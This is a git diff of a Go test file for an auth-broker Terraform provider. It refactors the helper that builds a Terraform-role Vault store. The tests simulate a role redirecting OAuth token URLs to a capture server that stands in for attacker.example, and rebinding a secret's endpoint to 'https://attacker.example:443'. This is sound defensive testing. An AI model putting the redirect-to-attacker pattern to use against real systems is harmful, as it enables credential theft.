@@ -11,14 +11,11 @@ import (
 	"testing"
 	"time"
 
-	vaultapi "github.com/hashicorp/vault/api"
-
 	"github.com/authconnection/terraform-provider-tailor/internal/authconn"
 	"github.com/authconnection/terraform-provider-tailor/internal/broker"
 	"github.com/authconnection/terraform-provider-tailor/internal/broker/brokertest"
 	"github.com/authconnection/terraform-provider-tailor/internal/store"
 	"github.com/authconnection/terraform-provider-tailor/internal/testenv"
-	"github.com/authconnection/terraform-provider-tailor/internal/vaultclient"
 )
 
 // captureSink stands in for https://attacker.example/token: it records everything sent to it
@@ -59,21 +56,6 @@ func (s *captureSink) leaked(secrets ...string) (string, int) {
 		}
 	}
 	return "", len(s.got)
-}
-
-// terraformStore returns a store whose Vault token holds exactly the documented Terraform
-// policy (docs/vault-layout.md, <!-- policy:terraform -->).
-func terraformStore(t *testing.T, env *brokertest.Env) *store.Store {
-	t.Helper()
-	root := env.Vault.Client()
-	if err := root.Sys().PutPolicy("tailor-terraform", testenv.DocPolicy(t, "terraform", env.Prefix)); err != nil {
-		t.Fatal(err)
-	}
-	tok, err := root.Auth().Token().Create(&vaultapi.TokenCreateRequest{Policies: []string{"tailor-terraform"}, NoDefaultPolicy: true, TTL: "1h"})
-	if err != nil {
-		t.Fatal(err)
-	}
-	return env.NewStoreWith(t, vaultclient.Config{Address: env.Vault.Addr, Token: tok.Auth.ClientToken, Timeout: 5 * time.Second})
 }
 
 // moveTokenURL is the review's finding 1 as the Terraform role does it: read the config
@@ -120,7 +102,7 @@ func TestAttackF1_TerraformRoleMovesTokenURL(t *testing.T) {
 		t.Fatal(err)
 	}
 	sink := newCaptureSink(t)
-	moveTokenURL(t, terraformStore(t, env), "victim", sink.srv.URL+"/capture-attacker-token")
+	moveTokenURL(t, env.RoleStore(t, "terraform"), "victim", sink.srv.URL+"/capture-attacker-token")
 
 	var err error
 	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(200 * time.Millisecond) {
@@ -172,7 +154,7 @@ func TestAttackF1_TerraformRoleMovesClientCredentialsTokenURL(t *testing.T) {
 		t.Fatal(err)
 	}
 	sink := newCaptureSink(t)
-	tf := terraformStore(t, env)
+	tf := env.RoleStore(t, "terraform")
 	moveTokenURL(t, tf, "cc", sink.srv.URL+"/capture-cc")
 
 	var rec *store.TokenRecord
@@ -226,7 +208,7 @@ func TestTerraformRoleCannotRebindASecret(t *testing.T) {
 	if _, err := env.Store.PutClientSecret(ctx, "x", "the-real-secret"); err != nil {
 		t.Fatal(err)
 	}
-	tf := terraformStore(t, env)
+	tf := env.RoleStore(t, "terraform")
 	kv := tf.Client().KVv2("secret")
 	_, err := kv.Patch(ctx, env.Store.Layout("x").ClientSecret, map[string]any{"endpoint_origins": []string{"https://attacker.example:443"}})
 	if err == nil || !strings.Contains(err.Error(), "403") {
